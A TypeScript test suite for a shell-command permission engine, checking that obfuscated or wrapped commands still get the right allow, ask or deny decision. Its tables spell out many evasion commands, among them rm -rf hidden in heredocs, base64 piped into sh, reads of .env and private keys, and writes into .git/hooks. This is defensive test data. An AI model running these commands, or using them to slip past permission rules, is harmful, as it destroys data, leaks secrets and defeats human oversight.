      { command: 'unset "a[x]"', decision: 'ask', why: 'unset of a subscript' },
      { command: 'a=([x]=1)', decision: 'ask', why: 'an array key is arithmetic' },
    ]),
  )('%s', (_title, row) => {
    expectDecision(shell(row.command), row);
  });

  it('allows a harmless quoted export once export is allowed', () => {
    const layers = withRules({ shell_exec: { 'export *': 'allow' } });
    expect(shell("export 'LANG=C'; git status", { layers }).decision.type).toBe('allow');
  });
});

describe('lines the parser cannot read still deny what they name', () => {
  it.each(
    cases([
      { command: 'echo "unterminated; rm -rf x', decision: 'deny', why: 'an unterminated quote' },
      { command: 'if then; rm -rf x', decision: 'deny', why: 'a syntax error' },
      { command: 'ls; ( rm -rf x', decision: 'deny', why: 'an unclosed subshell' },
      { command: 'ls; (echo x', decision: 'ask', why: 'nothing denied: still ask' },
    ]),
  )('%s', (_title, row) => {
    expectDecision(shell(row.command), row);
  });

  it('denies a denied command in a line longer than the limit', async () => {
    const small = await createWarmEngine({ limits: { maxSourceChars: 1000 } });
    const line = `echo ${'a'.repeat(2000)}; rm -rf x`;
    const evaluation = evaluateLine(small, line, { layers: { file: rules } });
    expect(evaluation.decision.type, explainEvaluation(evaluation)).toBe('deny');
    expect(evaluation.problems.join('\n')).toMatch(/longer than 1000 characters/);
  });

  it('denies a denied command when the line itself ran out of parse time', async () => {
    const real = await loadShellParser();
    const parser: ShellParser = { ...real, parse: () => undefined };
    const impatient = await createWarmEngine({ parser });
    const evaluation = evaluateLine(impatient, "ls && sudo rm -rf x; echo 'a'", { layers: { file: rules } });
    expect(evaluation.decision.type, explainEvaluation(evaluation)).toBe('deny');
  });
});

describe('programs fed to shells inside programs fed to shells', () => {
  /** `line` run by `depth` shells, each reading it from a heredoc (`bash <<'E0'` …). */
  function heredocFed(line: string, depth: number, feed: (tag: string, inner: string) => string): string {
    let fed = line;
    for (let level = 0; level < depth; level += 1) fed = feed(`E${level}`, fed);
    return fed;
  }
  const feeds = {
    'bash <<EOF': (tag: string, inner: string) => `bash <<'${tag}'\n${inner}\n${tag}`,
    'cat <<EOF | sh': (tag: string, inner: string) => `cat <<'${tag}' | sh\n${inner}\n${tag}`,
  };

  it.each(Object.entries(feeds))(
    'asks, and still denies what it names, when %s nests deeper than the bound',
    (_name, feed) => {
      // The engine's clock stands still: only the nesting bound can end the analysis.
      const deep = evaluateLine(engine, heredocFed('rm -rf x', 12, feed), { layers: { file: rules } });
      expect(deep.decision.type, explainEvaluation(deep)).toBe('deny');
      expect(deep.problems.join('\n')).toMatch(/wrapped more than 8 levels deep/);
      const harmless = evaluateLine(engine, heredocFed('ls', 12, feed), { layers: { file: rules } });
      expect(harmless.decision.type, explainEvaluation(harmless)).toBe('ask');
      const shallow = evaluateLine(engine, heredocFed('ls', 3, feed), { layers: { file: rules } });
      expect(shallow.problems.join('\n')).not.toMatch(/levels deep/);
    },
  );

  it('answers instead of overflowing the stack for thousands of levels', () => {
    const evaluation = evaluateLine(engine, heredocFed('rm -rf x', 2_000, feeds['bash <<EOF']), {
      layers: { file: rules },
    });
    expect(evaluation.decision.type, explainEvaluation(evaluation)).toBe('deny');
  });
});

describe('files named the other ways commands take them', () => {
  it.each(
    cases([
      { command: 'git log --outp=.git/hooks/x', decision: 'deny', why: 'an abbreviated long option (git, GNU)' },
      { command: 'sort --out=.git/x a.txt', decision: 'deny', why: 'sort --output abbreviated' },
      { command: 'git diff --ext', decision: 'ask', why: 'an abbreviated flag' },
      { command: 'cp evil .git/hooks', decision: 'deny', why: 'a directory destination receives the file' },
      { command: 'cp evil.sh .git', decision: 'deny', why: 'into .git itself' },
      { command: 'cp -t .git/hooks evil', decision: 'deny', why: 'cp -t DIR' },
      { command: 'mv .git/config x', decision: 'deny', why: 'mv removes its source' },
      { command: 'ln .git/config x', decision: 'deny', why: 'a hard link makes the source writable elsewhere' },
      { command: 'ln -s notes.txt link', decision: 'allow', why: 'a symbolic link writes only the link' },
      { command: 'find . -fprint .git/hooks/pre-commit', decision: 'deny', why: 'find -fprint writes a file' },
      { command: 'git show HEAD:.env', decision: 'deny', why: 'a file at a revision' },
      { command: 'git log -p -- .env', decision: 'deny', why: 'the history of a denied file' },
      { command: 'git blame .env', decision: 'deny', why: 'git blame prints the file' },
      { command: 'git log --oneline -5 main', decision: 'allow', why: 'revisions are no denied files' },
      { command: 'git show HEAD:src/a.ts', decision: 'allow', why: 'an ordinary file at a revision' },
    ]),
  )('%s (every command allowed, rm denied)', (_title, row) => {
    expectDecision(shell(row.command, { layers: withRules({ shell_exec: { '*': 'allow', 'rm *': 'deny' } }) }), row);
  });
});

describe('a deny written for a sub-command holds whatever global options come first', () => {
  const layers = withRules({
    shell_exec: { '*': 'allow', 'git push --force*': 'deny', 'npm publish*': 'deny', 'docker rm *': 'deny' },
  });

  it.each(
    cases([
      { command: 'git -C . push --force', decision: 'deny', why: 'git -C DIR' },
      { command: 'git --no-pager -c user.name=x push --force', decision: 'deny', why: 'flags and -c' },
      { command: '/usr/bin/git --git-dir=.git push --force', decision: 'deny', why: 'a path and --git-dir=' },
      { command: 'npm --prefix . publish', decision: 'deny', why: 'npm --prefix' },
      { command: 'docker --context prod rm web', decision: 'deny', why: 'docker --context' },
      { command: 'git -C . push origin main', decision: 'allow', why: 'what the deny does not name still runs' },
    ]),
  )('%s', (_title, row) => {
    expectDecision(shell(row.command, { layers }), row);
  });
});

describe('a program a line makes for itself is no program any rule sees', () => {
  const everything = withRules({ shell_exec: { '*': 'allow', 'rm *': 'deny' } });

  it.each(
    cases([
      { command: "source <(echo 'rm -rf x')", decision: 'ask', why: 'source of a process substitution' },
      { command: 'bash <(echo rm -rf x)', decision: 'ask', why: 'a shell given a pipe as its script' },
      { command: ". /dev/stdin <<< 'rm -rf x'", decision: 'ask', why: '/dev/stdin as the script' },
      { command: 'python3 /dev/fd/3 3< x.py', decision: 'ask', why: 'an interpreter reading a descriptor' },
      { command: 'echo cm0gLXJmIHgK | base64 -d | sh', decision: 'ask', why: 'a shell reading a pipe' },
      {
        command: 'diff <(ls a) <(ls b)',
        decision: 'allow',
        why: 'process substitution into a program that runs no code',
      },
    ]),
  )('%s (every command allowed, rm denied)', (_title, row) => {
    expectDecision(shell(row.command, { layers: everything }), row);
  });
});

describe('unknown programs and large lines under permissive rules', () => {
  const everything = withRules({ shell_exec: { '*': 'allow', 'rm *': 'deny' } });

  it.each(
    cases([
      { command: 'mywrapper rm -rf x', decision: 'deny', why: 'an unknown wrapper the rules allow is still probed' },
      { command: "tcsh -c 'rm -rf x'", decision: 'deny', why: 'a command line as an argument' },
      { command: 'toybox rm x', decision: 'deny', why: 'a multi-call binary' },
      { command: 'mytool --verbose build', decision: 'allow', why: 'nothing denied inside' },
    ]),
  )('%s (every command allowed, rm denied)', (_title, row) => {
    expectDecision(shell(row.command, { layers: everything }), row);
  });

  it('asks about a line that moves through more directories or names more files than the bounds', async () => {
    // The bounds on directories and files are under test, not time: with the default 50 ms a parse
    // of these 2,000- and 6,000-character lines ran out first on a busy machine (the full suite).
    const patient = await createWarmEngine({ limits: { parseTimeoutMs: 30_000, analysisTimeoutMs: 30_000 } });
    const judge = (line: string) => evaluateLine(patient, line, { layers: everything, home: '/home/me' });
    const moving = judge(`${'cd d; '.repeat(300)}${'cat x; '.repeat(300)}`);
    expect(moving.decision.type, explainEvaluation(moving)).toBe('ask');
    expect(moving.problems.join('\n')).toMatch(/more than 8 directories/);
    const many = judge(`for f in ${'x '.repeat(3000)}; do cat "$f" "$f.bak"; done`);
    expect(many.decision.type).toBe('ask');
    expect(many.problems.join('\n')).toMatch(/more than 1024 files/);
  });
});

describe('heredocs the parser reads differently', () => {
  const everything = withRules({ shell_exec: { '*': 'allow', 'rm *': 'deny' } });

  it.each(
    cases([
      { command: 'cat <<EOF\n $(rm -rf x)\nEOF', decision: 'deny', why: 'a body starting with a blank, then $(…)' },
      { command: 'cat <<EOF\n\t$(cat .env)\nEOF', decision: 'deny', why: 'the read of a denied file it scanned' },
      { command: 'cat <<EOF\n\t$(date)\nEOF', decision: 'ask', why: 'the parser read no substitution' },
      { command: 'cat <<-EOF\n\t$(rm x)\n\tEOF', decision: 'deny', why: '<<- with a tab' },
      { command: 'cat <<EOF | sh\nrm -rf x\nEOF', decision: 'deny', why: 'a heredoc piped into a shell' },
      { command: 'cat <<EOF | python3\nimport os\nEOF', decision: 'ask', why: 'into an interpreter' },
      { command: 'cat <<EOF | grep x\nrm -rf x\nEOF', decision: 'allow', why: 'into a program that runs nothing' },
      { command: "cat <<'EOF'\n $(rm x)\nEOF", decision: 'allow', why: 'a quoted heredoc is text' },
      { command: 'cat <<EOF\n$(date)\nEOF', decision: 'allow', why: 'a substitution the parser read' },
    ]),
  )('%s (every command allowed, rm denied)', (_title, row) => {
    expectDecision(shell(row.command, { layers: everything }), row);
  });
});

describe('words read as bash reads them', () => {
  const everything = withRules({ shell_exec: { '*': 'allow', 'rm *': 'deny' } });

  it.each(
    cases([
      { command: "cat $'\\u002eenv'", decision: 'deny', why: '\\u takes at most 4 hex digits' },
      { command: "cat $'\\U0000002eenv'", decision: 'deny', why: '\\U takes 8' },
      { command: "$'rm\\0junk' -rf x", decision: 'deny', why: 'a NUL ends the word' },
      { command: "cat $'.env\\x00junk'", decision: 'deny', why: 'a NUL in hex' },
      { command: "cat $'.env\\c@junk'", decision: 'deny', why: 'a NUL as a control escape' },
      { command: 'eval rm\\ -rf\\ x', decision: 'deny', why: 'escaped blanks in a payload split its words' },
      { command: 'bash -c cat\\ .env', decision: 'deny', why: 'the same through bash -c' },
      { command: 'cat < .e\\\nnv', decision: 'ask', why: 'a line continuation inside a redirect target' },
      { command: 'npm test \\\n  --silent', decision: 'allow', why: 'a continuation between words' },
      { command: 'cat ~root/.ssh/id_rsa', decision: 'ask', why: 'another user’s home' },
      { command: 'cat ~-/x', decision: 'ask', why: 'the previous directory' },
      { command: 'echo x >> ~+/.git/config', decision: 'deny', why: '~+ is the current directory' },
    ]),
  )('%s (every command allowed, rm denied)', (_title, row) => {
    expectDecision(shell(row.command, { layers: everything }), row);
  });
});

describe('option tables read as the programs read their options', () => {
  const everything = withRules({ shell_exec: { '*': 'allow', 'rm *': 'deny' } });

  it.each(
    cases([
      { command: 'parallel --tag rm ::: x', decision: 'deny', why: 'a flag that is also a prefix of a valued option' },
      { command: 'install --strip x .git/config', decision: 'deny', why: 'the same for file arguments' },
      { command: 'sort --o=.git/config x', decision: 'deny', why: 'a three-letter abbreviation with =' },
      { command: 'watch -d rm x', decision: 'deny', why: 'an option whose value is optional' },
      { command: 'nsenter -m/proc/1/ns/mnt rm x', decision: 'deny', why: 'an attached value is no cluster' },
      { command: 'strace --seccomp-bpf rm x', decision: 'deny', why: 'a flag' },
      { command: 'sem --id x rm x', decision: 'deny', why: 'a valued option of sem' },
      { command: 'env -P /bin rm x', decision: 'deny', why: 'BSD env -P' },
      { command: 'setarch i386 --3gb rm x', decision: 'deny', why: 'options after the leading operand' },
      { command: 'parallel cat ::: .env', decision: 'deny', why: 'the arguments after ::: are the command’s' },
      { command: 'npm -y exec rm x', decision: 'deny', why: 'a global option before the sub-command' },
      { command: 'uv -q run rm x', decision: 'deny', why: 'uv' },
      { command: 'corepack pnpm exec rm x', decision: 'deny', why: 'corepack' },
      { command: 'fd . --exec=rm', decision: 'deny', why: 'an attached command' },
      { command: 'fd . -xrm', decision: 'deny', why: 'an attached short command' },
      { command: 'tar cfz .git/x y', decision: 'deny', why: 'old-style letters take their values in order' },
      { command: "bash -e <<< 'rm x'", decision: 'deny', why: 'a shell with options reading a here-string' },
      { command: "bash -o pipefail -s a <<< 'rm x'", decision: 'deny', why: '-o takes a value, -s reads input' },
      { command: "bash 0<<< 'rm x'", decision: 'deny', why: 'a here-string on descriptor 0' },
      { command: "sudo bash <<< 'rm x'", decision: 'deny', why: 'a shell behind a wrapper' },
      { command: 'uv run cat .env', decision: 'deny', why: 'the files of what a package runner starts' },
      { command: 'npx tee .git/config', decision: 'deny', why: 'a write through npx' },
    ]),
  )('%s (every command allowed, rm denied)', (_title, row) => {
    expectDecision(shell(row.command, { layers: everything }), row);
  });
});

describe('paths named to commands Molf does not model', () => {
  const everything = withRules({
    shell_exec: { '*': 'allow', 'rm *': 'deny' },
    read_file: { '*': 'allow', '*.env': 'deny' },
    write_file: { '*': 'allow', '.git/*': 'deny' },
  });

  it.each(
    cases([
      { command: 'python3 .env', decision: 'ask', why: 'an interpreter given a denied file' },
      { command: 'xargs -a .env', decision: 'ask', why: 'an option value' },
      { command: 'openssl enc -base64 -in=.env', decision: 'deny', why: 'a one-dash option with =' },
      { command: 'curl -H @.env x', decision: 'ask', why: 'an @file argument' },
      { command: 'curl file:.env', decision: 'ask', why: 'a file: URL' },
      { command: 'gzip .git/config', decision: 'deny', why: 'gzip replaces the file it compresses' },
      { command: 'mkdir .git/hooks/x', decision: 'ask', why: 'a directory under .git' },
      { command: 'git init .git/hooks', decision: 'deny', why: 'git init writes the repository it makes' },
      { command: 'ln -s .git g && echo x > g/config', decision: 'deny', why: 'a link made earlier in the line' },
      { command: 'ln -s .env x.txt && cat x.txt', decision: 'deny', why: 'a link to a denied file' },
      { command: 'python3 app.py --config config.yaml', decision: 'allow', why: 'ordinary paths' },
      { command: 'echo .env >> .gitignore', decision: 'allow', why: 'echo opens no argument' },
      { command: "git commit -m 'fix: .env loading'", decision: 'allow', why: 'a message with blanks is no path' },
      { command: 'grep -d recurse KEY .', decision: 'allow', why: 'a directory read (judged on the worker)' },
    ]),
  )('%s', (_title, row) => {
    expectDecision(shell(row.command, { layers: everything }), row);
  });
});

describe('git reads, writes and settings in their other spellings', () => {
  const everything = withRules({ shell_exec: { '*': 'allow', 'rm *': 'deny' } });

  it.each(
    cases([
      { command: 'git log -L1,5:.env', decision: 'deny', why: 'git log -L follows lines of a file' },
      { command: "git log -p -- ':/.env'", decision: 'deny', why: 'pathspec magic from the top' },
      { command: "git log -p -- ':(icase).env'", decision: 'deny', why: 'long pathspec magic' },
      { command: "git log -p -- '.e*'", decision: 'ask', why: 'a pathspec glob is expanded by git' },
      { command: "git config set alias.x '!rm -rf y'", decision: 'deny', why: 'git config set KEY VALUE' },
      { command: 'git config set core.hooksPath /tmp', decision: 'ask', why: 'a key naming code' },
      { command: "git -c interactive.diffFilter='rm x' add -p", decision: 'deny', why: 'a filter key' },
      { command: "git -c sendemail.sendmailcmd='rm x' send-email", decision: 'deny', why: 'a …cmd key' },
      { command: 'git show HEAD:src/a.ts', decision: 'allow', why: 'an ordinary file' },
    ]),
  )('%s (every command allowed, rm denied)', (_title, row) => {
    expectDecision(shell(row.command, { layers: everything }), row);
  });

  // The table of sub-commands whose options run commands was read by key: an inherited property of
  // every object (`constructor`) was taken for an entry and the analysis threw.
  it.each(
    cases([
      { command: 'git constructor', decision: 'allow', why: 'a sub-command named like an object property' },
      { command: 'git __proto__ x', decision: 'allow', why: 'and another' },
      { command: 'git toString; rm -rf y', decision: 'deny', why: 'a deny after it still holds' },
    ]),
  )('%s (every command allowed, rm denied)', (_title, row) => {
    expectDecision(shell(row.command, { layers: everything }), row);
  });
});

describe('secrets the default rules keep and assignments in expansions', () => {
  it.each(
    cases([
      { command: 'cat ~/.vault-token', decision: 'deny', why: 'a token in the home directory' },
      { command: 'cat /proc/1/environ', decision: 'deny', why: 'another process’s environment' },
      { command: 'cat deploy/id_rsa', decision: 'deny', why: 'a private key in the project' },
      { command: 'cat tls/server.pem', decision: 'ask', why: 'a certificate or key asks' },
      { command: 'echo ${GIT_DIR:=/tmp/evil}; git status', decision: 'ask', why: '${NAME:=value} assigns' },
      { command: 'echo ${x:=1}; git status', decision: 'allow', why: 'a lower-case shell variable' },
    ]),
  )('%s', (_title, row) => {
    expectDecision(shell(row.command), row);
  });
});

describe('second hostile round: links, copies and process paths', () => {
  const everything = withRules({
    shell_exec: { '*': 'allow', 'rm *': 'deny' },
    read_file: { '*': 'allow', '*.env': 'deny' },
    write_file: { '*': 'allow', '.git/*': 'deny', '.git/**': 'deny' },
  });

  it.each(
    cases([
      { command: 'cp -s .git/config cfg && cp evil.cfg cfg', decision: 'deny', why: 'cp -s links as ln -s does' },
      { command: 'cp -l .git/config x', decision: 'deny', why: 'cp -l links as ln does' },
      {
        command: 'mkdir d && ln -s ../.git d/ && echo x > d/.git/config',
        decision: 'deny',
        why: 'a target relative to the link',
      },
      { command: 'cp evil.sh .git', decision: 'deny', why: 'a destination that may be a directory' },
      { command: 'cp package.json package.json.bak', decision: 'allow', why: 'a copy to a file name' },
      { command: 'cd src && echo x > /proc/self/cwd/../.git/config', decision: 'ask', why: '/proc/self/cwd' },
      { command: 'echo x > /dev/fd/../cwd/.git/config', decision: 'ask', why: '/dev/fd/..' },
      { command: 'gcc -o.git/hooks/pre-commit x.c', decision: 'ask', why: 'a value attached to a short option' },
      { command: 'mytool out=.git/hooks/pre-commit', decision: 'ask', why: 'name=path' },
      { command: 'git clone . .git/hooks/x', decision: 'deny', why: 'git clone writes its directory' },
      { command: 'grep -rn "process.env" src', decision: 'allow', why: 'a grep pattern is no file' },
      { command: "jq '.env' package.json", decision: 'allow', why: 'a jq filter is no file' },
      { command: 'git checkout -b feature/secret-rotation', decision: 'allow', why: 'a branch is no file' },
      { command: 'mkdir -p src/secrets', decision: 'allow', why: 'a directory of code' },
    ]),
  )('%s', (_title, row) => {
    expectDecision(shell(row.command, { layers: everything }), row);
  });
});

describe('second hostile round: programs that run what their options name', () => {
  const everything = withRules({ shell_exec: { '*': 'allow', 'rm *': 'deny' } });

  it.each(
    cases([
      { command: "pnpm exec -c 'rm -rf y'", decision: 'deny', why: 'pnpm exec in shell mode' },
      { command: "pnpm -c exec 'rm -rf y'", decision: 'deny', why: 'a command line as one word' },
      { command: 'pnpm recursive exec rm -rf node_modules', decision: 'deny', why: 'pnpm recursive exec' },
      { command: 'uv tool run rm -rf y', decision: 'deny', why: 'uv tool run' },
      { command: 'lerna exec -- rm -rf y', decision: 'deny', why: 'lerna exec' },
      { command: "go run -exec 'rm -rf y' .", decision: 'deny', why: 'go -exec' },
      { command: 'go vet -vettool=/bin/rm ./...', decision: 'deny', why: 'a one-dash option with =' },
      { command: "git send-email --to-cmd='rm -rf y' x.patch", decision: 'deny', why: 'git send-email' },
      { command: "make -E 'x:;rm -rf y' x", decision: 'deny', why: 'make -E is --eval' },
      { command: "compgen -W '$(rm -rf y)' x", decision: 'deny', why: 'compgen expands its word list' },
      { command: "compgen -C 'rm -rf y' x", decision: 'deny', why: 'compgen -C runs a command' },
      { command: "sed -f /dev/stdin README.md <<< '1e rm -rf y'", decision: 'ask', why: 'a sed program from a file' },
      { command: 'make -f - <<< x', decision: 'ask', why: 'a makefile from standard input' },
      { command: "vim -c '!rm -rf y' -c q README.md", decision: 'ask', why: 'editor commands' },
      { command: "at now <<< 'rm -rf y'", decision: 'ask', why: 'at runs commands later' },
      { command: 'npm test --script-shell=./evil.sh', decision: 'ask', why: 'npm runs scripts with that shell' },
      { command: 'pytest -p evil', decision: 'ask', why: 'a pytest plugin' },
      { command: 'go test ./...', decision: 'allow', why: 'nothing of the sort' },
    ]),
  )('%s (every command allowed, rm denied)', (_title, row) => {
    expectDecision(shell(row.command, { layers: everything }), row);
  });
});
